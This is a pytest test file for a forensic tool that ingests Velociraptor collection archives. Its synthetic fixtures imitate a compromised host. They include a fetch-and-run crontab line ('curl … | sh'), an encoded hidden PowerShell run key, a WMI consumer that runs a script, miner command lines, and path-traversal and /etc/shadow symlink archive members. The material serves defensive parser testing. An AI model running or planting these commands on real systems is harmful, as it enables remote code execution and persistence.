"""The Velociraptor collection source, on collection containers built here as the collector lays them out.

``collection`` writes a container the way Velociraptor's Go writer does: deflate members with
data descriptors (an unseekable stream), ``collection_context.json`` / ``client_info.json`` /
``log.json`` / ``requests.json``, JSON-lines ``results/`` (``%2F`` before a source name, with
``.json.index`` files of 8 bytes per row) and ``uploads/<accessor>/`` with percent-encoded
components. Result rows carry the columns the artifact definitions select. Uploads are real
formats: wevtutil XML from ``winevent_gen``, generated auth logs, task XML and, when
``../shared/data`` is there, a real EVTX.
"""

from __future__ import annotations

import datetime as dt
import json
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest

import deminer.sources
from deminer.case import Case
from deminer.scenarios import win_events as wg
from deminer.scenarios.auth_log import AuthLog
from deminer.sources import archive_zip, velociraptor, zipread
from deminer.sources.base import Source
from deminer.sources.ingest import ingest, pick_source
from tests.sources.test_archive_zip import M, auth_log_bytes, build_zip, proposed_sources
from tests.sources.unseekable import Unseekable

Row = dict[str, Any]
SHARED_EVTX = Path(__file__).resolve().parents[2] / "../shared/data/windows-evtx"
PSEXEC_EVTX = SHARED_EVTX / "metasploit-psexec-native-target-system.evtx"
PAGEFILE_ERROR = r"uploads: Unable to open C:\pagefile.sys: in use"
SID = "S-1-5-21-1004336348-1177238915-682003330-1001"


def _task_source() -> list[Source]:
    try:
        from deminer.sources import task_xml
    except ImportError:                     # another engineer's module, not registered yet
        return []
    return [task_xml.SOURCE]


@pytest.fixture(autouse=True)
def registered(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> tuple[Source, ...]:
    sources = proposed_sources(*_task_source())
    monkeypatch.setattr(deminer.sources, "SOURCES", sources)
    monkeypatch.chdir(tmp_path)
    return sources




def jsonl(rows: list[Row]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def collection(path: Path, results: dict[str, list[Row]], uploads: dict[str, bytes],
               client: Row | None = None, log: list[Row] | None = None,
               extra: dict[str, bytes] | None = None) -> Path:
    """A collection container: ``results`` keyed by artifact[/source], ``uploads`` by member name."""
    stream = Unseekable()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, data in uploads.items():
            zf.writestr(zipfile.ZipInfo(member, (2024, 3, 31, 9, 0, 0)), data)
        for name, rows in results.items():
            base = "results/" + name.replace("/", "%2F") + ".json"
            zf.writestr(base, jsonl(rows))
            zf.writestr(base + ".index", struct.pack(f"<{len(rows)}Q", *range(len(rows))))
        zf.writestr("log.json", jsonl(log or [
            {"_ts": 1709605000, "client_time": 1709605000, "level": "DEFAULT",
             "message": "Starting collection of Windows.System.Pslist\n"}]))
        zf.writestr("collection_context.json", json.dumps({
            "session_id": "F.CNJ7Q2L1E3H5A", "request": {"artifacts": sorted(results)},
            "create_time": 1709605000123456, "total_collected_rows": sum(map(len, results.values())),
            "state": 2, "artifacts_with_results": sorted(results)}, indent=1))
        zf.writestr("requests.json", json.dumps({"items": [{"session_id": "F.CNJ7Q2L1E3H5A"}]}))
        zf.writestr("client_info.json", json.dumps(client if client is not None else {
            "Hostname": "WIN-MINER01", "HostID": "7c0b7f8e-2f0a-4a4e-9d4e-3f1f0e6b8a11",
            "Name": "velociraptor", "BuildTime": "2024-02-15T01:32:04Z", "build_url": "",
            "Fqdn": "WIN-MINER01.corp.example", "OS": "windows",
            "Platform": "Microsoft Windows Server 2019 Datacenter", "PlatformVersion": "10.0.17763"}))
        for member, data in (extra or {}).items():
            zf.writestr(member, data)
        zf.writestr("uploads.json", jsonl([{"vfs_path": m, "_Components": m.split("/"),
                                            "file_size": len(d), "uploaded_size": len(d)}
                                           for m, d in uploads.items()]))
    path.write_bytes(bytes(stream.buf))
    return path


XMRIG_SHA = "a" * 64
WINDOWS_RESULTS: dict[str, list[Row]] = {
    "Windows.System.Pslist": [
        {"CreateTime": "2024-03-05T02:16:01Z", "Pid": 4242, "Ppid": 812, "TokenIsElevated": True,
         "Name": "svchosts.exe", "CommandLine": r"C:\Users\Public\svchosts.exe -o pool.minexmr.com:4444",
         "Exe": r"C:\Users\Public\svchosts.exe", "TokenInfo": {"User": "S-1-5-18"},
         "Hash": {"MD5": "b" * 32, "SHA1": "c" * 40, "SHA256": XMRIG_SHA},
         "Authenticode": {"Trusted": "untrusted"}, "Username": r"NT AUTHORITY\SYSTEM",
         "WorkingSetSize": 2539520},
        {"CreateTime": "2024-03-01T08:00:00Z", "Pid": 812, "Ppid": 4, "Name": "services.exe",
         "CommandLine": r"C:\Windows\system32\services.exe", "Exe": r"C:\Windows\System32\services.exe",
         "Hash": None, "Username": r"NT AUTHORITY\SYSTEM", "WorkingSetSize": 10240000}],
    "Windows.Network.Netstat": [
        {"Pid": 4242, "Name": "svchosts.exe", "Family": "IPv4", "Type": "TCP", "Status": "ESTAB",
         "LaddrIP": "10.0.0.15", "LaddrPort": 49822, "RaddrIP": "198.51.100.23", "RaddrPort": 4444,
         "Timestamp": "2024-03-05T02:16:03Z"},
        {"Pid": 4, "Name": "System", "Family": "IPv6", "Type": "TCP", "Status": "LISTEN",
         "LaddrIP": "::", "LaddrPort": 445, "RaddrIP": "::", "RaddrPort": 0}],
    "Windows.System.Services": [
        {"State": "Running", "Name": "WinSysUpd", "DisplayName": "Windows System Update", "Status": "OK",
         "Pid": 4242, "ExitCode": 0, "StartMode": "Auto", "PathName": r"C:\Users\Public\svchosts.exe",
         "ServiceType": "Own Process", "UserAccount": "LocalSystem", "Created": "2024-03-05T02:14:07Z",
         "ServiceDll": None, "FailureCommand": None, "AbsoluteExePath": r"C:\Users\Public\svchosts.exe"},
        {"Name": "Dnscache", "StartMode": "Auto",
         "PathName": r"C:\Windows\system32\svchost.exe -k NetworkService",
         "ServiceDll": [{"ServiceDll": r"C:\Windows\System32\dnsrslvr.dll"}],
         "UserAccount": r"NT AUTHORITY\NetworkService", "Created": {"Created": "2019-03-11T08:30:15Z"}}],
    "Windows.System.TaskScheduler/Analysis": [
        {"TaskName": r"\Microsoft\Windows\Maintenance\SysUpd", "Mtime": "2024-03-05T02:14:09Z",
         "Command": r"c:\users\public\svchosts.exe", "Arguments": "-o pool.minexmr.com:4444",
         "UserId": "S-1-5-18", "RunLevel": "HighestAvailable", "ComHandler": None,
         "RegistrationTime": "2024-03-05T02:14:08Z",
         "OSPath": r"C:\Windows\System32\Tasks\Microsoft\Windows\Maintenance\SysUpd"}],
    "Windows.Sys.StartupItems": [
        {"Name": "WindowsUpdate", "OSPath": rf"HKEY_USERS\{SID}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
                                            r"\WindowsUpdate",
         "Details": "powershell -w hidden -enc SQBFAFgA", "Enabled": "enabled", "Upload": ""}],
    "Windows.Persistence.PermanentWMIEvents": [
        {"ConsumerDetails": {"__CLASS": "CommandLineEventConsumer", "Name": "SCM Event Log Consumer",
                             "CommandLineTemplate": r'powershell.exe -nop -c "iex(gc C:\ProgramData\u.ps1)"'},
         "FilterDetails": {"__CLASS": "__EventFilter", "Name": "SCM Event Log Filter",
                           "Query": "SELECT * FROM __InstanceModificationEvent WITHIN 60",
                           "QueryLanguage": "WQL"},
         "Namespace": "root/subscription"}],
    "Windows.EventLogs.EvtxHunter": [
        {"EventTime": "2024-03-05T02:14:07Z", "Computer": "WIN-MINER01.corp.example", "Channel": "System",
         "Provider": "Service Control Manager", "EventID": 7045, "EventRecordID": 1234,
         "UserSID": "S-1-5-21-1-2-3-500", "Username": r"CORP\admin",
         "EventData": {"ServiceName": "WinSysUpd", "ImagePath": r"C:\Users\Public\svchosts.exe",
                       "ServiceType": "user mode service", "StartType": "auto start",
                       "AccountName": "LocalSystem"},
         "UserData": None, "Message": "A service was installed in the system.",
         "OSPath": r"C:\Windows\System32\winevt\Logs\System.evtx"}],
    "Windows.EventLogs.Evtx": [
        {"System": {"Provider": {"Name": "Microsoft-Windows-Security-Auditing"}, "EventID": {"Value": 4625},
                    "TimeCreated": {"SystemTime": 1709604847.5}, "EventRecordID": 88231,
                    "Channel": "Security", "Computer": "WIN-MINER01.corp.example", "Security": {}},
         "EventData": {"TargetUserName": "administrator", "IpAddress": "203.0.113.77", "IpPort": "51234",
                       "LogonType": 3, "Status": "0xc000006d", "SubStatus": "0xc000006a"},
         "TimeCreated": "2024-03-05T02:14:07.5Z", "EventID": 4625,
         "OSPath": r"C:\Windows\System32\winevt\Logs\Security.evtx"}],
    "Windows.Forensics.Prefetch": [{"Executable": "SVCHOSTS.EXE", "RunCount": 3},
                                   {"Executable": "CMD.EXE", "RunCount": 40}],
}


def windows_uploads() -> dict[str, bytes]:
    uploads = {
        "uploads/auto/C%3A/Windows/Temp/security-export.xml": wg.export(wg.intrusion()).encode(),
        "uploads/ntfs/%5C%5C.%5CC%3A/Windows/System32/Tasks/Microsoft/Windows/Maintenance/SysUpd":
            wg.task_xml(r"C:\Users\Public\svchosts.exe", "-o pool.minexmr.com:4444").encode("utf-16"),
        "uploads/auto/C%3A/pagefile.sys": bytes(70000),
    }
    if PSEXEC_EVTX.exists():
        uploads["uploads/auto/C%3A/Windows/System32/winevt/Logs/System.evtx"] = PSEXEC_EVTX.read_bytes()
    return uploads


def test_windows_collection(tmp_path: Path) -> None:
    container = collection(tmp_path / "Collection-WIN-MINER01-2024-03-05T02_20_00Z.zip", WINDOWS_RESULTS,
                           windows_uploads(), log=[
                               {"level": "DEFAULT", "message": "Starting collection\n"},
                               {"level": "ERROR", "message": PAGEFILE_ERROR}])
    name = container.name
    case = Case(tmp_path / "case")
    summary = ingest(case, [Path(name)], sources=deminer.sources.SOURCES)
    assert summary.errors == []
    host = case.query("SELECT * FROM hosts")
    assert host == [{"host": "win-miner01", "hostname": "WIN-MINER01", "ips": None,
                     "os": "windows Microsoft Windows Server 2019 Datacenter 10.0.17763",
                     "machine_id": "7c0b7f8e-2f0a-4a4e-9d4e-3f1f0e6b8a11",
                     "collected_at": dt.datetime(2024, 3, 5, 2, 16, 40, 123456),
                     "collector_version": "velociraptor", "is_root": None, "source": name}]
    miner = case.query("SELECT * FROM processes WHERE pid = 4242")[0]
    assert miner["exe"] == r"C:\Users\Public\svchosts.exe" and miner["exe_sha256"] == XMRIG_SHA
    assert miner["started"] == dt.datetime(2024, 3, 5, 2, 16, 1) and miner["rss"] == 2539520
    assert miner["host"] == "win-miner01" and miner["ts"] == host[0]["collected_at"]
    assert miner["source"] == f"{name}!results/Windows.System.Pslist.json" and miner["source_line"] == 1
    conns = case.query("SELECT proto, laddr, lport, raddr, rport, state, pid FROM connections ORDER BY pid")
    assert conns == [
        {"proto": "tcp6", "laddr": "::", "lport": 445, "raddr": "::", "rport": 0, "state": "LISTEN",
         "pid": 4},
        {"proto": "tcp", "laddr": "10.0.0.15", "lport": 49822, "raddr": "198.51.100.23", "rport": 4444,
         "state": "ESTABLISHED", "pid": 4242}]
    persistence = {(r["kind"], r["name"]): r for r in case.query(
        "SELECT * FROM persistence WHERE source LIKE '%!results/%'")}
    service = persistence["service", "WinSysUpd"]
    assert service["command"] == r"C:\Users\Public\svchosts.exe" and service["enabled"] is True
    assert service["mtime"] == dt.datetime(2024, 3, 5, 2, 14, 7) and service["user"] == "LocalSystem"
    dnscache = persistence["service", "Dnscache"]
    assert dnscache["command"].endswith(r"[ServiceDll: C:\Windows\System32\dnsrslvr.dll]")
    assert dnscache["mtime"] == dt.datetime(2019, 3, 11, 8, 30, 15)
    task = persistence["task", r"\Microsoft\Windows\Maintenance\SysUpd"]
    assert task["command"] == r"c:\users\public\svchosts.exe -o pool.minexmr.com:4444"
    assert task["user"] == "S-1-5-18" and task["location"].startswith(r"C:\Windows\System32\Tasks")
    run_key = persistence["run_key", "WindowsUpdate"]
    assert run_key["user"] == SID and run_key["location"].endswith(r"CurrentVersion\Run")
    assert run_key["command"] == "powershell -w hidden -enc SQBFAFgA" and run_key["enabled"] is True
    wmi = persistence["wmi", "SCM Event Log Consumer"]
    assert wmi["command"].startswith("powershell.exe -nop")
    assert "[filter: SELECT * FROM __Instance" in wmi["command"]
    assert wmi["location"] == "root/subscription:CommandLineEventConsumer"
    events = {r["event_id"]: r for r in case.query(
        f"SELECT * FROM events WHERE source LIKE '{name}!C:%' AND channel IN ('System', 'Security')"
        " AND record_id IN (1234, 88231)")}
    assert events[7045]["event"] == "service_installed" and events[7045]["host"] == "win-miner01"
    assert events[7045]["source"] == rf"{name}!C:\Windows\System32\winevt\Logs\System.evtx"
    assert events[4625]["event"] == "logon_failure" and events[4625]["src_ip"] == "203.0.113.77"
    assert events[4625]["ts"] == dt.datetime(2024, 3, 5, 2, 14, 7, 500000)
    inputs = {r["path"]: r for r in case.query("SELECT * FROM inputs")}
    prefetch = inputs[f"{name}!results/Windows.Forensics.Prefetch.json"]
    assert prefetch["kind"] == "velociraptor_unmapped" and prefetch["rows"] == 2 and prefetch["error"] is None
    # uploads: read by their sources under the host's own path, with the collection's host
    xml = inputs[rf"{name}!C:\Windows\Temp\security-export.xml"]
    assert xml["kind"] == "winevent_xml" and xml["host"] == "win-miner01"
    assert case.query(f"SELECT count(*) AS n FROM events WHERE source = '{xml['path']}'")[0]["n"] == 13
    assert inputs[rf"{name}!C:\pagefile.sys"]["kind"] == "unrecognised"
    if _task_source():
        tasks = case.query("SELECT name, command, host FROM persistence WHERE kind = 'task' AND source LIKE "
                           f"'{name}!\\\\.\\C:%'")
        assert tasks and tasks[0]["host"] == "win-miner01" and "svchosts.exe" in tasks[0]["command"]
    if PSEXEC_EVTX.exists():
        evtx = inputs[rf"{name}!C:\Windows\System32\winevt\Logs\System.evtx"]
        assert evtx["kind"] == "evtx" and evtx["rows"] > 0
        installs = case.query(f"SELECT DISTINCT host FROM events WHERE source = '{evtx['path']}' "
                              "AND event_id = 7045")
        assert installs == [{"host": "win-miner01"}]
    # the collector's own errors, and nothing else went wrong
    errors = case.query("SELECT stage, message FROM errors")
    assert errors == [{"stage": "collect",
                       "message": f"the collector logged 1 error(s); first: {PAGEFILE_ERROR}"}]
    # extracted below the case folder by container hash; the pagefile was not copied
    base = tmp_path / "case/evidence/velociraptor" / zipread.sha256_file(container)[:16]
    assert (base / "uploads/auto/C/Windows/Temp/security-export.xml").is_file()
    assert not (base / "uploads/auto/C/pagefile.sys").exists()


def test_linux_collection(tmp_path: Path) -> None:
    log = AuthLog(host="web1", start=dt.datetime(2023, 12, 30, 23, 0))
    log.brute_force("203.0.113.7", ["root", "admin"], attempts=20, success_user="root")
    auth = "".join(line + "\n" for line in log.lines()).encode()
    results: dict[str, list[Row]] = {
        "Linux.Sys.Pslist": [{"Pid": 3301, "Ppid": 1, "Name": "kswapd0",
                              "CommandLine": "/tmp/.x/kswapd0 -c c.json",
                              "Exe": "/tmp/.x/kswapd0 (deleted)", "Hash": None, "Username": "www-data",
                              "CreateTime": "2024-01-02T03:04:05Z", "RSS": 2411724, "Deleted": True}],
        "Linux.Network.Netstat/TCP4": [{"inode": 48213, "State": "Established", "uid": 33,
                                        "ProcessInfo": {"Pid": 3301, "Command": "kswapd0"},
                                        "LocalAddr": "10.0.0.5", "LocalPort": 40112,
                                        "RemoteAddr": "198.51.100.7", "RemotePort": 3333}],
        "Linux.Sys.Crontab/CronTabs": [
            {"Event": None, "User": "root", "Minute": "*/5", "Hour": "*", "DayOfMonth": "*", "Month": "*",
             "DayOfWeek": "*", "Command": "curl -fsSL http://198.51.100.7/x.sh | sh", "Path": "/etc/crontab"},
            {"Event": None, "User": "/tmp/.x/kswapd0", "Minute": "*", "Hour": "*", "DayOfMonth": "*",
             "Month": "*", "DayOfWeek": "*", "Command": "-c /tmp/.x/c.json",
             "Path": "/var/spool/cron/crontabs/www-data"},
            {"Event": "@reboot", "Command": "root /usr/local/bin/.update", "Path": "/etc/cron.d/update"}],
    }
    uploads = {"uploads/auto/var/log/auth.log": auth}
    collection(tmp_path / "web1.zip", results, uploads, client={"Hostname": "web1", "OS": "linux",
                                                                "Fqdn": "web1.example.net"})
    case = Case(tmp_path / "case")
    ingest(case, [Path("web1.zip")], sources=deminer.sources.SOURCES)
    proc = case.query("SELECT exe, exe_deleted, rss, user FROM processes")
    assert proc == [{"exe": "/tmp/.x/kswapd0", "exe_deleted": True, "rss": 2411724, "user": "www-data"}]
    conn = case.query("SELECT pid, proto, raddr, rport, state, inode FROM connections")
    assert conn == [{"pid": 3301, "proto": "tcp", "raddr": "198.51.100.7", "rport": 3333,
                     "state": "ESTABLISHED", "inode": 48213}]
    cron = case.query("SELECT name, user, command, location FROM persistence WHERE kind = 'cron' "
                      "ORDER BY location")
    assert cron == [
        {"name": "@reboot", "user": "root", "command": "/usr/local/bin/.update",
         "location": "/etc/cron.d/update"},
        {"name": "*/5 * * * *", "user": "root", "command": "curl -fsSL http://198.51.100.7/x.sh | sh",
         "location": "/etc/crontab"},
        {"name": "* * * * *", "user": "www-data", "command": "/tmp/.x/kswapd0 -c /tmp/.x/c.json",
         "location": "/var/spool/cron/crontabs/www-data"}]
    logons = case.query("SELECT host, user, src_ip, ts, source FROM events WHERE event = 'logon_success'")
    assert logons and all(r["host"] == "web1" and r["source"] == "web1.zip!/var/log/auth.log" for r in logons)
    # the upload kept the zip's mtime (2024-03-31), so December lines are read as 2023
    assert {r["ts"].year for r in logons} == {2023}


def test_hostile_collection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(velociraptor, "MAX_LINE", 4096)
    pslist = jsonl(WINDOWS_RESULTS["Windows.System.Pslist"]).split(b"\n")
    lines = [pslist[0], b"not json at all", b'{"Pid": 7, "Name": "caf\xe9.exe"}', b"[1, 2]",
             b'{"Pid": 8, "Name": "' + b"A" * 10000 + b'"}', pslist[1],
             b'{"Pid": 9, "Exe": 5, "Name": {"a": 1, "b": 2}}',          # odd shapes: still a row
             b'{"Pid": 10, "Hash": "not a dict", "Exe": ' + b"9" * 30 + b"}"]
    climb = "..%2F" * 8
    files = {
        "results/Windows.System.Pslist.json": b"\n".join(lines) + b"\n",
        f"uploads/auto/{climb}tmp%2Fevil.log": auth_log_bytes(),       # "../../…/tmp/evil.log"
        "uploads/auto/%2E%2E/evil2.log": auth_log_bytes(),
        "uploads/auto/var/log/auth.log": auth_log_bytes(),
        "client_info.json": json.dumps({"Hostname": "victim"}).encode(),
        "collection_context.json": json.dumps({"session_id": "F.1", "create_time": 1709605000}).encode(),
        "log.json": b"",
    }
    members = [M(n.encode(), d, method=8) for n, d in files.items()]
    members.append(M(b"uploads/auto/etc/passwd-link", b"/etc/shadow", mode=0o120777))
    damaged = jsonl(WINDOWS_RESULTS["Windows.Network.Netstat"])
    members.append(M(b"results/Windows.Network.Netstat.json", damaged, method=8, crc=1))
    (tmp_path / "hostile.zip").write_bytes(build_zip(members))
    assert pick_source(Path("hostile.zip"), (tmp_path / "hostile.zip").read_bytes()[:65536],
                       deminer.sources.SOURCES).name == "velociraptor"
    case = Case(tmp_path / "case")
    summary = ingest(case, [Path("hostile.zip")], sources=deminer.sources.SOURCES)
    assert summary.errors == []
    messages = [r["message"] for r in case.query("SELECT message FROM errors WHERE source = 'hostile.zip'")]
    assert any(f"'uploads/auto/{climb}tmp%2Fevil.log' has an empty or '..' path component" in m
               for m in messages)
    assert any("'uploads/auto/%2E%2E/evil2.log' has an empty or '..' path component" in m for m in messages)
    assert any("'uploads/auto/etc/passwd-link' is a symbolic link" in m for m in messages)
    assert any("'results/Windows.Network.Netstat.json' fails its CRC-32 check" in m for m in messages)
    assert any("'results/Windows.System.Pslist.json': 3 line(s) are not JSON objects of the artifact or "
               "are over 4096 bytes (first at line 2)" in m for m in messages)
    names = {r["pid"]: r["name"] for r in case.query("SELECT pid, name FROM processes")}
    assert names == {4242: "svchosts.exe", 812: "services.exe", 7: "caf\\xe9.exe", 9: None, 10: None}
    assert case.query("SELECT DISTINCT host FROM processes") == [{"host": "victim"}]
    assert case.count("events") > 0                                  # the good upload was read
    # the rows read before the CRC failure was found are kept
    assert case.count("connections") == 2
    assert not list(tmp_path.parent.rglob("evil*.log"))             # nowhere, in or out of the case
    assert {r["source"] for r in case.query("SELECT DISTINCT source FROM events")} == {
        "hostile.zip!/var/log/auth.log"}


def test_secured_container_is_refused_with_a_way_out(tmp_path: Path) -> None:
    inner = build_zip([M(b"collection_context.json", b"{}")])
    metadata = json.dumps([{"Scheme": "X509", "EncryptedPass": "SGVsbG8=", "PublicKey": "-----BEGIN..."}])
    (tmp_path / "secured.zip").write_bytes(build_zip([M(b"metadata.json", metadata.encode()),
                                                      M(b"data.zip", inner, flags=0x1)]))
    case = Case(tmp_path / "case")
    summary = ingest(case, [Path("secured.zip")], sources=deminer.sources.SOURCES)
    assert len(summary.errors) == 1
    message = summary.errors[0]
    assert message.startswith("secured.zip: velociraptor: a secured Velociraptor collection (X509)")
    assert "decrypt it first" in message and "data.zip" in message


def test_layouts_and_sniffers(tmp_path: Path, registered: tuple[Source, ...]) -> None:
    def pick(members: dict[str, bytes]) -> str | None:
        path = tmp_path / "probe.zip"
        path.write_bytes(build_zip([M(n.encode(), d) for n, d in members.items()]))
        source = pick_source(path, path.read_bytes()[:65536], registered)
        return source.name if source else None

    event = json.dumps(wg.to_nxlog(wg.logon(False))).encode() + b"\n"
    # results whose rows look like Windows JSON events are still the collection's
    rdp = "results/Windows.EventLogs.RDPAuth.json"
    assert pick({"collection_context.json": b"{}", rdp: event}) == "velociraptor"
    assert pick({"log.json": b"", "results/Windows.System.Pslist.json": b"{}\n"}) == "velociraptor"
    assert pick({"results/notes.json": event}) == "winevent_json"        # no collection files
    assert pick({"C/Windows/System32/winevt/Logs/x.txt": b"x"}) == "archive_zip"
    assert velociraptor.mapper_for("Windows.EventLogs.Cleared") is not None
    assert velociraptor.mapper_for("Windows.System.TaskScheduler/Upload") is None
    assert archive_zip.depth() == 0


def test_collection_inside_a_zip_is_read_as_a_collection(tmp_path: Path) -> None:
    pslist = "Windows.System.Pslist"
    inner = collection(tmp_path / "c.zip", {pslist: WINDOWS_RESULTS[pslist]}, {})
    outer = tmp_path / "handover.zip"
    outer.write_bytes(build_zip([M(b"hosts/win-miner01/Collection-WIN-MINER01.zip", inner.read_bytes())]))
    case = Case(tmp_path / "case")
    ingest(case, [Path("handover.zip")], sources=deminer.sources.SOURCES)
    kinds = {r["path"]: r["kind"] for r in case.query("SELECT path, kind FROM inputs")}
    assert kinds["handover.zip!hosts/win-miner01/Collection-WIN-MINER01.zip"] == "velociraptor"
    assert case.query("SELECT DISTINCT host, source FROM processes") == [
        {"host": "win-miner01",
         "source": "handover.zip!hosts/win-miner01/Collection-WIN-MINER01.zip!results/"
                   "Windows.System.Pslist.json"}]
